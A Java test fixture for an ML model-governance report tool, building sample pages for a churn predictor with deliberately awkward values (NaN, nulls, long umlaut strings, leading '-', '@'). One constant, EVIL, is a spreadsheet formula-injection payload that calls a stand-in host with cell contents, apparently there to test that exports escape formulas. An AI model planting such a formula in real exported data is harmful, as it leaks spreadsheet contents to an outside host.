package io.gatehouse.reports;

import io.gatehouse.champions.ChampionSummary;
import io.gatehouse.champions.ClaimedFigure;
import io.gatehouse.champions.ClaimedMetric;
import io.gatehouse.champions.InUse;
import io.gatehouse.champions.ModelPage;
import io.gatehouse.champions.ProductionAnswers;
import io.gatehouse.champions.ProductionAnswers.Ingredient;
import io.gatehouse.champions.ProductionAnswers.MetricPair;
import io.gatehouse.champions.ProductionAnswers.NamedValue;
import io.gatehouse.champions.Tenure;
import io.gatehouse.checks.CheckName;
import io.gatehouse.checks.Figure;
import io.gatehouse.checks.Figure.Unit;
import io.gatehouse.checks.LoggedMetric;
import io.gatehouse.fairness.verdicts.Verdict;
import io.gatehouse.money.Money;
import io.gatehouse.outcomes.LiveFigures;
import io.gatehouse.outcomes.SampleLiveFigures;
import io.gatehouse.policy.PolicyRef;
import io.gatehouse.policy.Use;
import io.gatehouse.reports.Provenance.Origin;
import io.gatehouse.sentences.Sentence;
import java.net.URI;
import java.time.Instant;
import java.time.ZoneId;
import java.util.Currency;
import java.util.List;
import java.util.Map;
import org.jspecify.annotations.Nullable;

/** Read models as the demo would show them, with text and figures that are hard to write. */
final class ReadModels {
    static final Currency USD = Currency.getInstance("USD");
    static final ZoneId BERLIN = ZoneId.of("Europe/Berlin");
    static final Instant NOW = Instant.parse("2026-11-14T05:10:00Z");
    static final String MODEL = "streamflow-churn-predictor";
    static final String EVIL = "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"click\")";
    static final String LONG_NAME = "Übergrößenträger ".repeat(18) + "ßß";
    static final String SHA = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";
    static final PolicyRef POLICY = new PolicyRef("human-reviewed", 1, Use.HUMAN_REVIEWED, "ab".repeat(32));

    private ReadModels() {}

    static Sentence said(String english) {
        return new Sentence("test", Map.of(), english);
    }

    static Money dollars(double amount) {
        return Money.of(amount, USD);
    }

    static Figure figure(
            String name, @Nullable Double estimate, @Nullable Double low, @Nullable Double high, Unit unit) {
        return new Figure(name, estimate, low, high, 7_500L, null, unit);
    }

    static Origin origin(int version) {
        return new Origin(MODEL, version, SHA, POLICY, 1, NOW.minusSeconds(90_000), 40L + version, "cd".repeat(32));
    }

    static Provenance provenance(Origin... origins) {
        return new Provenance(
                List.of(origins), NOW, "Priya Shah", URI.create("https://gatehouse.example/requests/42"), BERLIN);
    }

    static ModelPage modelPage() {
        return new ModelPage(MODEL, "", champion(), results(), tenures(), versions(), List.of());
    }

    /** The same model once it is known what became of customers. */
    static ModelPage livingPage() {
        return new ModelPage(MODEL, "", champion(living()), results(), tenures(), versions(), List.of());
    }

    private static List<ModelPage.Result> results() {
        return List.of(
                new ModelPage.Result(
                        CheckName.FAIRNESS,
                        Verdict.INCONCLUSIVE,
                        said("It cannot be told for the segment 65+, of which there are too few.")),
                new ModelPage.Result(
                        CheckName.PERFORMANCE, Verdict.PASS, said("It ranks customers well enough: AUC 0.87.")));
    }

    private static ChampionSummary champion() {
        return champion(claimed());
    }

    private static ChampionSummary champion(ClaimedFigure claimed) {
        return new ChampionSummary(
                MODEL,
                "Finds subscribers who may leave in the next 60 days, so that customer success can call them.",
                3,
                ChampionSummary.Health.ON_TRACK,
                said("Of 100 subscribers who leave it finds 83, and acting on it is worth about $62,000 a month."),
                Instant.parse("2026-08-21T13:00:00Z"),
                "Dana Scientist",
                List.of("Priya Shah", "Jörg Größe"),
                43L,
                "human-reviewed v1",
                figure("true_positive_rate", 0.831, 0.815, 0.846, Unit.SHARE),
                figure("precision", 0.512, 0.496, 0.528, Unit.SHARE),
                figure("auc", 0.8848, 0.8769, 0.8927, Unit.INDEX),
                claimed,
                new ChampionSummary.MoneyRange(dollars(51_200), dollars(62_410.5), dollars(73_600), 50_000, 0.56),
                new ChampionSummary.Fairness(
                        Verdict.PASS,
                        said("It finds leavers about equally well in every plan, age band and region."),
                        "age_band",
                        "18-24",
                        0.96,
                        0.8,
                        Verdict.PASS),
                "subscribers of 31 Jul 2026",
                NOW.minusSeconds(7_000_000),
                new ChampionSummary.Before(
                        1,
                        Instant.parse("2026-08-21T13:00:00Z"),
                        said(
                                "It finds 6 more leavers of 100 than version 1 did, and is worth $0.41 more per customer.")),
                1,
                2);
    }

    static ClaimedFigure claimed() {
        return new ClaimedFigure(
                0.8891,
                0.8848,
                null,
                said("Its run claimed an AUC of 0.8891; the evidence gives 0.8848, which is 0.0043 less."),
                said("No outcomes yet."),
                List.of(
                        ClaimedMetric.of(new LoggedMetric("test_auc", 0.8891, 0.8848), null),
                        ClaimedMetric.of(new LoggedMetric("test_log_loss", 0.3702, 0.3702), null),
                        ClaimedMetric.of(new LoggedMetric("test_precision", 0.71, Double.NaN), null)),
                null);
    }

    static ClaimedFigure living() {
        LiveFigures live = SampleLiveFigures.of(3, 0.8102);
        return new ClaimedFigure(
                0.8891,
                0.8848,
                0.8102,
                said("Its run claimed an AUC of 0.8891; the evidence gives 0.8848, which is 0.0043 less."),
                InUse.sentence(live),
                List.of(ClaimedMetric.of(new LoggedMetric("test_auc", 0.8891, 0.8848), live)),
                new InUse(
                        live,
                        said("In use: 0.8102."),
                        said("That is 0.0746 less than the evidence gives."),
                        null,
                        true,
                        List.of(said("Customers who were called may have stayed because of it."))));
    }

    private static List<Tenure> tenures() {
        return List.of(
                new Tenure(
                        3,
                        Instant.parse("2026-08-21T13:00:00Z"),
                        null,
                        43L,
                        "Dana Scientist",
                        List.of("Priya Shah", "Jörg Größe"),
                        "human-reviewed v1",
                        0.8848,
                        1.2482,
                        null),
                new Tenure(
                        1,
                        Instant.parse("2026-05-04T08:30:00Z"),
                        Instant.parse("2026-08-21T13:00:00Z"),
                        41L,
                        EVIL,
                        List.of("Priya Shah"),
                        "human-reviewed v1",
                        0.8421,
                        0.8355,
                        null),
                new Tenure(
                        0,
                        Instant.parse("2026-02-01T08:30:00Z"),
                        Instant.parse("2026-05-04T08:30:00Z"),
                        null,
                        "Dana Scientist",
                        List.of(),
                        "human-reviewed v1",
                        null,
                        Double.NaN,
                        null));
    }

    private static List<ModelPage.VersionRow> versions() {
        return List.of(
                new ModelPage.VersionRow(
                        4,
                        List.of(),
                        NOW,
                        "Dana Scientist",
                        "ef".repeat(16),
                        LONG_NAME,
                        "1",
                        0.8831,
                        false,
                        44L,
                        "AWAITING_REVIEW"),
                new ModelPage.VersionRow(
                        3,
                        List.of("champion"),
                        NOW,
                        "Dana Scientist",
                        "0a".repeat(16),
                        "xgb-final-best-lr0.03-d7",
                        "1",
                        0.8848,
                        false,
                        43L,
                        "EXECUTED"),
                new ModelPage.VersionRow(
                        2, List.of(), NOW, "Dana Scientist", null, null, null, null, true, null, null));
    }

    static ProductionAnswers answers() {
        return new ProductionAnswers(
                MODEL,
                NOW,
                3,
                "0a".repeat(16),
                "xgb-final-best-lr0.03-d7",
                said(
                        "XGBoost with learning rate 0.03 and depth 7, trained on 35,000 subscribers of streamflow-v3-2024-03."),
                List.of(
                        new NamedValue("learning_rate", "0.03"),
                        new NamedValue("max_depth", "7"),
                        new NamedValue("scale_pos_weight", "2.07", "1"),
                        new NamedValue("note", EVIL),
                        new NamedValue("negative", "-1+2"),
                        new NamedValue("mention", "@champion"),
                        new NamedValue("lookalike", "_x0041_ is no letter"),
                        new NamedValue("empty", "")),
                List.of(new NamedValue("data_hash", "1234567890123456"), new NamedValue("train_rows", "35000")),
                List.of(
                        new MetricPair("test_auc", 0.8848, 0.88479),
                        new MetricPair("test_f1", 0.71, null),
                        new MetricPair("test_log_loss", Double.NaN, 0.402)),
                said("Three months earlier version 1 was in use; version 3 finds 6 more leavers of 100."),
                1,
                said("Yes: 5 of 6 ingredients are on record; the preprocessing version is missing."),
                List.of(
                        new Ingredient("Data fingerprint", true, "1234567890123456"),
                        new Ingredient("Seed", true, "42"),
                        new Ingredient("Preprocessing version", false, "Log the tag preprocessing_version.")));
    }
}
